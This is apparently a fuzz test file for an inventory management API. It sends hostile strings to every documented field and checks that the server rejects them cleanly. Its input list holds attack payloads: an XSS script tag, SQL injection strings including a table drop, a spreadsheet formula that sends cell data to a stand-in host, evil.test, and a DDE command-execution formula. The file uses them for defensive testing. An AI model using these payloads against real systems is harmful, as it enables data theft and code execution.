import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_POLICY, EVERYTHING, type Policy } from '../../src/domain/policy.js';
import { COST_FIELDS } from '../../src/server/auth/cost-fields.js';
import { createTestApp, type Reply, type TestApp } from '../support/test-app.js';

/**
 * Every write body and every list/search parameter the OpenAPI document lists, driven with hostile strings.
 * Whatever the bytes: never a 5xx, a 400 names the field at fault, and the status is one the document lists.
 */
type Json = Record<string, any>; // eslint-disable-line @typescript-eslint/no-explicit-any -- an OpenAPI document
type Target = { method: string; path: string; url: string; kind: 'query' | 'body'; field: string; isArray: boolean; op: Json };

let t: TestApp;
let doc: Json;
let targets: Target[];
let baselines: Record<string, Json>;
let urls: Record<string, string>;

const first = async (url: string) =>
  (await t.request('GET', url, { role: 'admin' })).body.data?.[0] ?? (await t.request('GET', url, { role: 'admin' })).body.users?.[0];

beforeAll(async () => {
  t = await createTestApp();
  doc = (await t.request('GET', '/api/openapi.json')).body;
  const city = await first('/api/cities?limit=1');
  const warehouse = await first('/api/warehouses?limit=1');
  const otherWarehouse = (await t.request('GET', '/api/warehouses?limit=2', { role: 'admin' })).body.data[1];
  const product = await first('/api/products?limit=1');
  const charge = await first('/api/handling-charges?limit=1');
  const record = await first('/api/inventory?limit=1');
  const category = (await t.request('GET', '/api/categories/main', { role: 'admin' })).body.MainCategories[0];
  const user = {
    firstname: 'Fuzz',
    lastname: 'Target',
    email: 'fuzz.target@example.com',
    phonenumber: '+91 70000 11111',
    password: 'fuzz-secret',
    address: '1 Street',
    city_id: city._id,
    role: 'customer',
    status: 'active',
  };
  const made = await t.request('POST', '/api/users/create', { role: 'admin', body: user });
  expect(made.status).toBe(201);
  const cityBody = { name: 'Fuzz City', state: 'State', district: 'District', pincode: '123456', wards: ['Ward 1'], is_active: true };
  const warehouseBody = {
    name: 'Fuzz Warehouse',
    city_id: city._id,
    address: '1 Road',
    status: 'active',
    description: 'd',
    contact_person: 'Person',
    contact_phone: '+91 90000 00000',
    contact_email: 'fuzz@example.com',
  };
  const productBody = {
    productname: 'Fuzz Product',
    product_hindi: 'फ़ज़',
    category: category.name,
    subcategory: category.subcategories?.[0]?.name ?? 'x',
    product_keyword: 'Brand',
    price: 10,
    discount_price: 9,
    product_description: 'A product',
    unit: 'kg',
    unit_value: '1',
    gst_rate: 5,
    gst_type: 'GST',
    hsn_code: '1234',
    main_image: [],
    colors: [],
  };
  const stock = { product_id: product._id, warehouse_id: warehouse._id };
  // Declared resources (issue 16): a category and subcategory of their own, so renaming them leaves the products' alone.
  const fuzzCategory = (await t.request('POST', '/api/categories', { role: 'admin', body: { name: 'Fuzz category' } })).body;
  const subcategoryBody = { category_id: fuzzCategory._id, name: 'Fuzz subcategory', gst_rate: 5, gst_type: 'GST', hsn_code: '1234', perishable: false };
  const fuzzSubcategory = (await t.request('POST', '/api/subcategories', { role: 'admin', body: subcategoryBody })).body;
  baselines = {
    'POST /api/categories': { name: 'Fuzz category 2' },
    'PUT /api/categories/{id}': { name: 'Fuzz category' },
    'POST /api/subcategories': { ...subcategoryBody, name: 'Fuzz subcategory 2' },
    'PUT /api/subcategories/{id}': subcategoryBody,
    'POST /api/auth/login': { emailOrPhone: 'fuzz.login@example.com', password: 'whatever1' },
    'POST /api/auth/refresh': { refresh_token: 'not-a-token' },
    'POST /api/auth/logout': { refresh_token: 'not-a-token' },
    'PUT /api/auth/me/language': { language: 'en' },
    'POST /api/cities': cityBody,
    'PUT /api/cities/{id}': cityBody,
    'POST /api/warehouses': warehouseBody,
    'PUT /api/warehouses/{id}': warehouseBody,
    'POST /api/handling-charges': { charge_type: 'Fuzz charge', amount: 10 },
    'PUT /api/handling-charges/{id}': { charge_type: 'Fuzz charge', amount: 10 },
    'POST /api/inventory': { ...stock, current_stock: 0, minimum_stock: 0, maximum_stock: 0, unit_cost: 1, location: 'A1', notes: 'n' },
    'PUT /api/inventory/{id}': { minimum_stock: 1, location: 'A1', notes: 'n' },
    'POST /api/inventory/add-stock': {
      ...stock,
      quantity: 1,
      unit_cost: 1,
      movement_reason: 'adjustment',
      reference_id: 'R1',
      reference_type: 'manual',
      notes: 'n',
    },
    'POST /api/inventory/adjust-stock': { ...stock, new_stock: 5, notes: 'n' },
    'POST /api/inventory/remove-stock': { ...stock, quantity: 1, movement_type: 'damaged', notes: 'n' },
    'POST /api/inventory/test-update-all-inventory': { warehouse_id: warehouse._id },
    'POST /api/inventory/write-off-expired': { warehouse_id: warehouse._id },
    'POST /api/inventory/revalue': { ...stock, unit_cost: 12.5, notes: 'Supplier credit note' },
    'POST /api/products': productBody,
    'PATCH /api/products/{id}': productBody,
    'POST /api/users/create': user,
    'PUT /api/users/{id}': { ...user, password: '' },
    'PUT /api/permissions': DEFAULT_POLICY,
    'POST /api/stock-takes': { warehouse_id: warehouse._id, blind: true },
    'PUT /api/stock-takes/{id}/counts': { lines: [{ product_id: product._id, counted: 1 }] },
    'POST /api/transfers': {
      from_warehouse_id: warehouse._id,
      to_warehouse_id: otherWarehouse._id,
      lines: [{ product_id: product._id, quantity: 1 }],
      notes: 'n',
    },
    'PUT /api/transfers/{id}': {
      from_warehouse_id: warehouse._id,
      to_warehouse_id: otherWarehouse._id,
      lines: [{ product_id: product._id, quantity: 2 }],
      notes: 'n',
    },
    'POST /api/transfers/{id}/receive': { lines: [{ product_id: product._id, quantity: 1 }], close: false, note: 'n' },
    'POST /api/transfers/{id}/cancel': { note: 'n' },
    // text/csv: its bytes are fuzzed by tests/api/product-import.test.ts; here only its query.
    'POST /api/products/import': {},
    'POST /api/roles': { name: 'fuzz-role', label: 'Fuzz role' },
    'PUT /api/roles/{name}': { label: 'Fuzz role' },
  };
  // Purchase orders (issue 31): a draft to edit, and an ordered one for the steps (a step its status refuses is a documented 409).
  const seller = (await t.request('GET', '/api/users/by-role/seller', { role: 'admin' })).body.data[0];
  const order = {
    seller_id: seller._id,
    warehouse_id: warehouse._id,
    expected_on: '2026-12-01',
    notes: 'n',
    lines: [{ product_id: product._id, quantity: 5, unit_cost: 10 }],
  };
  const step = { lines: [{ product_id: product._id, quantity: 1, batch_no: 'B1', expiry_date: '2027-01-31' }], notes: 'n', note: 'n' };
  Object.assign(baselines, {
    // Replenishment (issue 31): draft orders from suggestions, and the settings CSV (text/csv: only its query here).
    'POST /api/replenishment/orders': { warehouse_id: warehouse._id, lines: [{ product_id: product._id, quantity: 2, seller_id: seller._id, unit_cost: 10 }] },
    'POST /api/inventory/replenishment-settings/import': {},
    'POST /api/purchase-orders': order,
    'PUT /api/purchase-orders/{id}': order,
    ...Object.fromEntries(['order', 'receive', 'return', 'close', 'cancel'].map((action) => [`POST /api/purchase-orders/{id}/${action}`, step])),
  });
  const draftOrder = await t.request('POST', '/api/purchase-orders', { role: 'admin', body: order });
  const placedOrder = await t.request('POST', '/api/purchase-orders', { role: 'admin', body: order });
  expect([draftOrder.status, placedOrder.status]).toEqual([201, 201]);
  const placed = await t.request('POST', `/api/purchase-orders/${placedOrder.body._id}/order`, {
    role: 'admin',
    headers: { 'idempotency-key': crypto.randomUUID() },
    body: {},
  });
  expect(placed.status, JSON.stringify(placed.body)).toBe(200);
  const take = await t.request('POST', '/api/stock-takes', { role: 'admin', body: { warehouse_id: warehouse._id } });
  const transfer = await t.request('POST', '/api/transfers', { role: 'admin', body: baselines['POST /api/transfers'] });
  expect(transfer.status).toBe(201);
  const ids: Record<string, string> = {
    '/api/cities/{id}': city._id,
    '/api/warehouses/{id}': warehouse._id,
    '/api/handling-charges/{id}': charge._id,
    '/api/inventory/{id}': record._id,
    '/api/products/{id}': product._id,
    '/api/users/{id}': made.body._id,
    '/api/inventory/by-city/{cityId}': city._id,
    '/api/stock-takes/{id}': take.body._id,
    '/api/stock-takes/{id}/counts': take.body._id,
    '/api/stock-takes/{id}/apply': take.body._id,
    '/api/stock-takes/{id}/cancel': take.body._id,
    '/api/inventory/{id}/batches': record._id,
    '/api/roles/{name}': 'sub-admin',
    '/api/transfers/{id}': transfer.body._id,
    '/api/transfers/{id}/dispatch': transfer.body._id,
    '/api/transfers/{id}/receive': transfer.body._id,
    '/api/transfers/{id}/cancel': transfer.body._id,
    '/api/categories/{id}': fuzzCategory._id,
    '/api/subcategories/{id}': fuzzSubcategory._id,
    '/api/purchase-orders/{id}': draftOrder.body._id,
    ...Object.fromEntries(['order', 'receive', 'return', 'close', 'cancel'].map((action) => [`/api/purchase-orders/{id}/${action}`, placedOrder.body._id])),
  };
  urls = Object.fromEntries(Object.keys(doc.paths).map((path) => [path, path.replace(/\{[^}]+\}/, ids[path] ?? '')]));

  targets = [];
  for (const [path, ops] of Object.entries(doc.paths as Json)) {
    for (const [m, op] of Object.entries(ops as Json)) {
      const method = m.toUpperCase();
      for (const p of (op.parameters ?? []) as Json[]) {
        if (p.in === 'query') targets.push({ method, path, url: urls[path]!, kind: 'query', field: p.name, isArray: false, op });
      }
      const body = op.requestBody?.content?.['application/json']?.schema;
      for (const [field, schema] of Object.entries((body?.properties ?? {}) as Json)) {
        targets.push({ method, path, url: urls[path]!, kind: 'body', field, isArray: schema.type === 'array', op });
      }
    }
  }
}, 120_000);
afterAll(() => t.close());

/** Percent-encodes the UTF-8 bytes, as a browser does: a lone surrogate cannot travel in a URL and arrives as U+FFFD. */
const queryValue = (value: string) => [...Buffer.from(value, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

async function send(target: Target, value: string): Promise<Reply> {
  if (target.kind === 'query') {
    return t.request(target.method, `${target.url}?${target.field}=${queryValue(value.slice(0, 8_000))}`, { role: 'admin' });
  }
  const body = { ...baselines[`${target.method} ${target.path}`], [target.field]: target.isArray ? [value] : value };
  return t.request(target.method, target.url, { role: 'admin', body });
}

const nameOf = (target: Target) => `${target.method} ${target.path} ${target.kind} ${target.field}`;
const LONE_SURROGATE = /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/;
/** What the server receives cannot be stored: NUL anywhere, or (in a JSON body) an unpaired surrogate. */
const unstorable = (target: Target, value: string) => value.includes('\u0000') || (target.kind === 'body' && LONE_SURROGATE.test(value));

/** What every answer must satisfy, whatever was sent. */
function checkReply(target: Target, value: string, reply: Reply): void {
  const what = `${nameOf(target)} = ${JSON.stringify(value.slice(0, 40))} → ${reply.status} ${JSON.stringify(reply.body).slice(0, 200)}`;
  expect(reply.status, what).toBeLessThan(500);
  expect(Object.hasOwn(target.op.responses, String(reply.status)), `undocumented status: ${what}`).toBe(true);
  if (reply.status >= 400) expect(typeof reply.body?.message, what).toBe('string');
  if (reply.status === 400 || reply.status === 413) {
    expect(reply.body.errors?.length, what).toBeGreaterThan(0);
    for (const e of reply.body.errors) expect(e.field, what).toMatch(/\S/);
  }
  // Characters PostgreSQL cannot store are refused by name, whatever else is wrong.
  if (unstorable(target, value)) {
    expect(reply.status, what).toBe(400);
    expect(
      reply.body.errors.map((e: { field: string }) => e.field),
      what,
    ).toContain(target.isArray ? `${target.field}.0` : target.field);
  }
}

/** Sent to every field: what PostgreSQL cannot store. The rest (huge, SQL, odd) comes at random below. */
const NASTY = ['a\u0000b', 'x\udfffy'];
const HUGE = 'x'.repeat(100_000);

// Single UTF-16 code units, so lone surrogates and NUL turn up as often as anything else.
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((n) => String.fromCharCode(n));
const hostile = fc.oneof(
  fc.constantFrom(
    ...NASTY,
    '\u0000',
    '\ud800',
    ' ',
    '',
    '-1',
    '1e309',
    'NaN',
    '%00',
    '😀',
    '\u202e',
    '<script>alert(1)</script>',
    "' OR 1=1 --",
    "'; drop table users; --",
    // Spreadsheet formulas (stored as typed; every CSV writes them as text: tests/unit/csv-cells.test.ts).
    '=HYPERLINK("http://evil.test/?"&A1,"Open")',
    "=cmd|' /C calc'!A0",
    '+SUM(1)',
    '@SUM(1)',
    // Days out of the calendar or the range (every date field: the test below).
    '0000-01-01',
    '9999-12-31',
    '2026-02-30',
  ),
  // Node refuses a request line over 16 kB before any route runs: in a query a "huge" value is 8 kB.
  fc.constant(HUGE),
  fc.string({ unit: codeUnit, maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.string({ unit: codeUnit, minLength: 1_000, maxLength: 5_000 }),
);

describe('arbitrary strings in every documented input', () => {
  it('has a valid baseline body for every documented write', () => {
    const writes = Object.entries(doc.paths as Json).flatMap(([path, ops]) =>
      Object.entries(ops as Json)
        .filter(([, op]) => op.requestBody)
        .map(([m]) => `${m.toUpperCase()} ${path}`),
    );
    expect(writes.filter((w) => !baselines[w])).toEqual([]);
    expect(targets.filter((x) => x.kind === 'query').length).toBeGreaterThan(40);
    expect(targets.filter((x) => x.kind === 'body').length).toBeGreaterThan(80);
  });

  it('NUL and a lone surrogate in each field: never a 5xx, a 400 naming the field', async () => {
    for (const target of targets) {
      for (const value of NASTY) checkReply(target, value, await send(target, value));
    }
  }, 300_000);

  it('impossible and out-of-range days in every date field: a 400 naming the field', async () => {
    const dated = targets.filter((x) => /(^|_)date$|^as_of$/.test(x.field));
    expect(dated.map(nameOf).length).toBeGreaterThanOrEqual(8);
    for (const target of dated) {
      for (const value of ['0000-01-01', '9999-12-31', '2026-02-30', '1999-12-31', '2101-01-01', '2026-13-01']) {
        const reply = await send(target, value);
        checkReply(target, value, reply);
        expect(reply.status, `${nameOf(target)} = ${value}`).toBe(400);
        expect(
          reply.body.errors.map((e: { field: string }) => e.field),
          `${nameOf(target)} = ${value}`,
        ).toContain(target.field);
      }
    }
  }, 120_000);

  it('every documented sort by a cost field, from a role without costs: a 400 naming sort, on every route', async () => {
    const probes: string[] = [];
    for (const [path, ops] of Object.entries(doc.paths as Json)) {
      const op = (ops as Json).get;
      const sort = (op?.parameters as Json[] | undefined)?.find((p) => p.in === 'query' && p.name === 'sort');
      const costs = ((sort?.schema?.enum ?? []) as string[]).filter((v) => COST_FIELDS.has(v));
      if (path.includes('{') || !costs.length) continue;
      for (const value of costs) probes.push(`${path}?sort=${value}`);
    }
    expect(probes.length).toBeGreaterThanOrEqual(4);
    const policy: Policy = structuredClone(DEFAULT_POLICY);
    policy.signIn['sub-admin'] = true;
    policy.grants['sub-admin'] = Object.fromEntries(Object.entries(EVERYTHING).filter(([r]) => r !== 'costs' && r !== 'stock'));
    expect((await t.request('PUT', '/api/permissions', { role: 'admin', body: policy })).status).toBe(200);
    for (const url of probes) {
      const res = await t.request('GET', url, { role: 'sub-admin' });
      expect([res.status, res.body.errors?.[0]?.field], url).toEqual([400, 'sort']);
    }
    expect((await t.request('PUT', '/api/permissions', { role: 'admin', body: DEFAULT_POLICY })).status).toBe(200);
  });

  it('random strings (100 kB, SQL, control and odd characters) in random fields (fast-check)', async () => {
    await fc.assert(
      fc.asyncProperty(fc.nat({ max: targets.length - 1 }), hostile, async (index, value) => {
        checkReply(targets[index]!, value, await send(targets[index]!, value));
      }),
      {
        numRuns: 250,
        // The default report prints the whole (up to 20 000 character) counterexample: name it briefly instead.
        reporter: (run) => {
          if (!run.failed || !run.counterexample) return;
          const [index, value] = run.counterexample;
          throw new Error(
            `${nameOf(targets[index]!)} = ${JSON.stringify(value.slice(0, 80))} (${value.length} chars, seed ${run.seed}): ${String(run.errorInstance).slice(0, 600)}`,
          );
        },
      },
    );
  }, 300_000);
});
